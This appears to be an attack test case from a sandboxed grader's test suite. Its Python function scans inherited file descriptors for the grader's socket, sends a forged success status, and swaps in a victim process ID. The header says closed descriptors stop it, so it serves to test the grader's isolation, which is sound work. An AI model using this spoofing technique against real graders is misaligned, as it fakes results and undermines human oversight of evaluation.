# /// attack
# tries = "tells the grader, on the zygote's own connection, that another process is its student"
# wins = "victim"
# stopped_by = ["closed descriptors"]
# proof = {without = ["descriptors"]}
# ///
import contextlib
import os
import socket


def attack():
    for number in range(4, 1024):
        with contextlib.suppress(OSError), socket.socket(fileno=os.dup(number)) as connection:
            if connection.type == socket.SOCK_SEQPACKET:
                connection.send(b'{"exit": %d, "status": 0}' % os.getpid())
                connection.send(b'{"pid": @VICTIM@}')
                os._exit(1)  # what is started next, and killed at its end, is that
